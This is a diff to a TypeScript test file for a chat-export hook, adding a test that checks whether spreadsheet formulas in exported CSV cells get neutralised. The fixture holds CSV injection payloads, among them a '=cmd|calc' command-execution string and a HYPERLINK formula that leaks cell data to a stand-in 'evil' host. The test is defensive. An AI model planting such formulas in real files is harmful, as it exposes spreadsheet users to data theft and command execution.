@@ -95,6 +95,7 @@ async function route(req: IncomingMessage, res: ServerResponse): Promise<void> {
       orgId: 'org',
       apiKey: 'secret-key',
       apiBase: base,
+      public: true,
     });
     const response = await handler(new Request(url, { method: req.method ?? 'GET' }));
     res.writeHead(response.status, Object.fromEntries(response.headers)).end(await response.text());
@@ -194,6 +195,30 @@ describe('useChatExport', () => {
     await act(() => result.current.download());
     expect(state.apiCalls).toBe(1);
     expect(state.storageCalls).toBe(2);
+  });
+
+  it('neutralises formulas in the provider’s CSV before saving it, row for row', async () => {
+    const kit = csv;
+    // What RealtimeKit or Dyte storage may hold: cells typed by participants, verbatim.
+    csv = [
+      'id,participantId,sessionId,meetingId,displayName,pinned,isEdited,payloadType,payload,createdAt',
+      'm1,p1,sess-1,meet-1,=cmd|calc,false,false,TEXT_MESSAGE,"=HYPERLINK(""https://evil/?""&A2,""Open"")",2026-01-01T10:00:00Z',
+      'm2,p2,sess-1,meet-1,Grace,false,false,TEXT_MESSAGE,\u00a0＝1+1,2026-01-01T10:01:00Z',
+      'm3,p2,sess-1,meet-1,Grace,false,false,TEXT_MESSAGE,plain,2026-01-01T10:02:00Z',
+    ].join('\n');
+    try {
+      const { result } = setup();
+      await act(() => result.current.download());
+      const lines = (await readBlob(saved[0]?.blob)).split(/\r\n/);
+      expect(lines).toHaveLength(5);
+      expect(lines[4]).toBe('');
+      expect(lines[1]).toContain(`'=cmd|calc`);
+      expect(lines[1]).toContain(`"'=HYPERLINK(""https://evil/?""&A2,""Open"")"`);
+      expect(lines[2]).toContain(`'\u00a0＝1+1`);
+      expect(lines[3]).toContain(',plain,');
+    } finally {
+      csv = kit;
+    }
   });
 
   it('asks for a new link once the cached one is within the safety margin of its expiry', async () => {
